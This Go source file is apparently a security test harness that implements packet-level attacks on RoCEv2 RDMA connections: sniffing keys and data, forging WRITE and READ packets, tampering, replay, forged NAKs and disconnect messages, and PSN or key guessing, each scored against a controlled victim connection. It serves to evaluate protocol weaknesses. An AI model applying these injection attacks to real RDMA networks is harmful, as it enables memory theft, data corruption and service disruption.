package attack

import (
	"bytes"
	"errors"
	"fmt"
	"time"

	"github.com/softrnic/softrnic/rdmatransport/mad"
	"github.com/softrnic/softrnic/rdmatransport/wire"
	"github.com/softrnic/softrnic/verbs"
)

// Victim is a connection of two hosts. The requester is behind the Path.
type Victim struct {
	Path *Path
	// Write WRITEs Text to the start of the responder's region and waits for the completion.
	Write func() (verbs.WCStatus, error)
	// Region returns the content of the responder's region, which has RegionLen bytes: Text, zeros,
	// and at SecretAt Secret.
	Region func() ([]byte, error)
	// Responder returns the state of the responder's QP.
	Responder func() (verbs.QPState, error)
	// Ended reports whether the requester's rdma_cm has ended the connection.
	Ended func() bool
}

// The content of messages and of the region.
var (
	Text   = []byte("sixteen of bytes")
	Secret = []byte("of one's own eye")
)

const (
	RegionLen = 256
	SecretAt  = 128
	forgedAt  = 64 // where the attacker writes
)

// Attack is an attack on a connection, which it may break.
type Attack struct {
	Name string
	// Succeeds: it does so with every RNIC, as the protocols have no encryption.
	Succeeds bool
	// Run performs it. It returns the number of packets that the attacker has sent, and whether it
	// has achieved its aim.
	Run func(*Victim) (packets int, through bool, err error)
}

// Attacks are attacks on connections over RoCEv2, each for a connection of its own.
var Attacks = []Attack{
	{"read data and keys", true, readInClear},
	{"WRITE with a forged packet", true, forgeWrite},
	{"READ with a forged packet", true, forgeRead},
	{"change data on its way", true, changeData},
	{"repeat an old WRITE", false, replay},
	{"end the responder's QP", true, endResponder},
	{"end the requester's QP", true, endRequester},
	{"disconnect", true, disconnect},
	{"WRITE without the ICRC", false, forgeWithoutICRC},
	{"WRITE from another address", false, forgeAddress},
	{"WRITE with guessed PSNs", false, guessPSN},
	{"WRITE with a guessed key", false, guessKey},
}

var errNothing = errors.New("the attacker has not seen the packet that it needs")

// write performs a WRITE, which succeeds, and returns its packet.
func (v *Victim) write() (Seen, wire.Packet, error) {
	if status, err := v.Write(); err != nil || status != verbs.WCSuccess {
		return Seen{}, wire.Packet{}, fmt.Errorf("a WRITE: %v, %w", status, err)
	}
	s, p, ok := v.Path.Last(true, isWrite)
	if !ok {
		return s, p, errNothing
	}
	return s, p, nil
}

func isWrite(p *wire.Packet) bool { return p.Opcode == wire.RCWriteOnly }

// forged returns a WRITE after packet p of the requester.
func forged(p *wire.Packet) *wire.Packet {
	f := *p
	f.PSN = wire.PSNAdd(p.PSN, 1)
	f.RETH.Addr += forgedAt
	f.Payload = forgedMessage
	f.RETH.Length = uint32(len(f.Payload))
	return &f
}

// patience is the time within which an attack that succeeds does so. Waiting for one that fails
// ends earlier: the responder has then executed a later packet.
const patience = 20 * time.Second

// until waits for a condition.
func until(is func() (bool, error)) (bool, error) {
	for end := time.Now().Add(patience); ; time.Sleep(time.Millisecond) {
		if yes, err := is(); yes || err != nil || time.Now().After(end) {
			return yes, err
		}
	}
}

// wasWritten reports whether the region has the attacker's message.
func (v *Victim) wasWritten(message []byte) (bool, error) {
	b, err := v.Region()
	return err == nil && bytes.Equal(b[forgedAt:][:len(message)], message), err
}

func readInClear(v *Victim) (int, bool, error) {
	_, p, err := v.write()
	return 0, v.Path.Contains(Text) && p.RETH.RKey != 0 && p.RETH.Addr != 0, err
}

func forgeWrite(v *Victim) (int, bool, error) {
	s, p, err := v.write()
	if err != nil {
		return 0, false, err
	}
	f := forged(&p)
	if err := v.Path.Inject(s.forge(f)); err != nil {
		return 0, false, err
	}
	through, err := until(func() (bool, error) { return v.wasWritten(f.Payload) })
	return 1, through, err
}

func forgeRead(v *Victim) (int, bool, error) {
	s, p, err := v.write()
	if err != nil {
		return 0, false, err
	}
	f := forged(&p)
	f.Opcode, f.Payload = wire.RCReadRequest, nil
	f.RETH.Addr, f.RETH.Length = p.RETH.Addr+SecretAt, uint32(len(Secret))
	if err := v.Path.Inject(s.forge(f)); err != nil {
		return 0, false, err
	}
	through, err := until(func() (bool, error) { return v.Path.Contains(Secret), nil })
	return 1, through, err
}

func changeData(v *Victim) (int, bool, error) {
	v.Path.Change(func(s *Seen) bool {
		if p, ok := s.packet(); ok && s.Out && isWrite(&p) {
			p.Payload = bytes.ToUpper(p.Payload)
			*s = s.forge(&p)
		}
		return true
	})
	_, _, err := v.write()
	if err != nil {
		return 0, false, err
	}
	b, err := v.Region()
	return 0, err == nil && bytes.HasPrefix(b, bytes.ToUpper(Text)), err
}

// replay repeats a WRITE after the attacker has made another at the same place, so that the text of
// the first would show.
func replay(v *Victim) (int, bool, error) {
	s, p, err := v.write()
	if err != nil {
		return 0, false, err
	}
	f := forged(&p)
	f.RETH.Addr = p.RETH.Addr
	if err := v.Path.Inject(s.forge(f)); err != nil {
		return 0, false, err
	}
	if err := v.Path.Inject(s); err != nil {
		return 0, false, err
	}
	last := forged(f) // when it has been executed, so has everything before it
	last.RETH.Addr = p.RETH.Addr + forgedAt
	if err := v.Path.Inject(s.forge(last)); err != nil {
		return 0, false, err
	}
	if done, err := until(func() (bool, error) { return v.wasWritten(last.Payload) }); err != nil || !done {
		return 0, false, errors.Join(errNothing, err)
	}
	b, err := v.Region()
	return 1, err == nil && bytes.HasPrefix(b, Text), err
}

func endResponder(v *Victim) (int, bool, error) {
	s, p, err := v.write()
	if err != nil {
		return 0, false, err
	}
	f := forged(&p)
	f.RETH.RKey ^= 0x01010101
	if err := v.Path.Inject(s.forge(f)); err != nil {
		return 0, false, err
	}
	through, err := until(func() (bool, error) {
		state, err := v.Responder()
		return state == verbs.StateErr, err
	})
	return 1, through, err
}

func endRequester(v *Victim) (int, bool, error) {
	if _, _, err := v.write(); err != nil {
		return 0, false, err
	}
	answer, ack, ok := v.Path.Last(false, func(p *wire.Packet) bool { return p.Opcode == wire.RCAck })
	if !ok {
		return 0, false, errNothing
	}
	lost := make(chan uint32, 1)
	v.Path.Change(func(s *Seen) bool {
		p, ok := s.packet()
		if ok && s.Out && isWrite(&p) {
			select {
			case lost <- p.PSN:
			default:
			}
			return false
		}
		return true
	})
	failed := make(chan error, 1)
	go func() {
		ack.PSN, ack.AETH.Syndrome = <-lost, wire.NakRemoteAccess
		failed <- v.Path.Inject(answer.forge(&ack))
	}()
	status, err := v.Write()
	return 1, status == verbs.WCRemAccessErr, errors.Join(err, <-failed)
}

func disconnect(v *Victim) (int, bool, error) {
	if _, _, err := v.write(); err != nil {
		return 0, false, err
	}
	var rep mad.REP
	s, p, ok := v.Path.Last(false, func(p *wire.Packet) bool {
		if p.DestQP != mad.QPN || len(p.Payload) != mad.Size {
			return false
		}
		h, data, err := mad.Parse(p.Payload)
		if err != nil || h.Attr != mad.AttrREP {
			return false
		}
		mad.Decode(data, &rep)
		return true
	})
	_, write, seen := v.Path.Last(false, func(p *wire.Packet) bool { return p.Opcode == wire.RCAck })
	if !ok || !seen {
		return 0, false, errNothing
	}
	var m [mad.Size]byte
	mad.Encode(&m, 0x1234, &mad.DREQ{LocalCommID: rep.LocalCommID, RemoteCommID: rep.RemoteCommID, RemoteQPN: write.DestQP})
	p.Payload = m[:]
	if err := v.Path.Inject(s.forge(&p)); err != nil {
		return 0, false, err
	}
	through, err := until(func() (bool, error) { return v.Ended(), nil })
	return 1, through, err
}

// misses sends a packet that must not be executed, and then a WRITE of the requester, after which
// it would have been. Both are for the same QP, so that they are executed in this order.
func (v *Victim) misses(frames ...Seen) (int, bool, error) {
	for _, f := range frames {
		if err := v.Path.Inject(f); err != nil {
			return 0, false, err
		}
	}
	if _, _, err := v.write(); err != nil {
		return 0, false, fmt.Errorf("after the attack: %w", err)
	}
	through, err := v.wasWritten(forgedMessage)
	return len(frames), through, err
}

func forgeWithoutICRC(v *Victim) (int, bool, error) {
	s, p, err := v.write()
	if err != nil {
		return 0, false, err
	}
	f := s.forge(forged(&p))
	f.Data[len(f.Data)-1] ^= 1
	return v.misses(f)
}

// forgeAddress knows everything, but the network does not let it forge its address.
func forgeAddress(v *Victim) (int, bool, error) {
	s, p, err := v.write()
	if err != nil {
		return 0, false, err
	}
	s.Data = bytes.Clone(s.Data)
	s.Data[ipAt+15] ^= 0x10 // the last byte of the source address
	return v.misses(s.forge(forged(&p)))
}

// Guesses is the number of PSNs that an attacker tries, of 2^24, without the right one.
const Guesses = 1 << 12

// guessPSN knows the QP, the key and the address.
func guessPSN(v *Victim) (int, bool, error) {
	s, p, err := v.write()
	if err != nil {
		return 0, false, err
	}
	var all []Seen
	for i := range uint32(Guesses) {
		f := forged(&p)
		f.PSN = wire.PSNAdd(f.PSN, 1+i*(1<<24/Guesses-1)) // never the next
		all = append(all, s.forge(f))
	}
	return v.misses(all...)
}

// guessKey knows everything but the key. A wrong one ends the connection, so that it has one guess.
func guessKey(v *Victim) (int, bool, error) {
	s, p, err := v.write()
	if err != nil {
		return 0, false, err
	}
	f := forged(&p)
	f.RETH.RKey += 0x100 // the next one of a card that counts
	if err := v.Path.Inject(s.forge(f)); err != nil {
		return 0, false, err
	}
	ended, err := until(func() (bool, error) {
		state, err := v.Responder()
		return state == verbs.StateErr, err
	})
	if err != nil || !ended {
		return 1, true, err
	}
	through, err := v.wasWritten(f.Payload)
	return 1, through, err
}
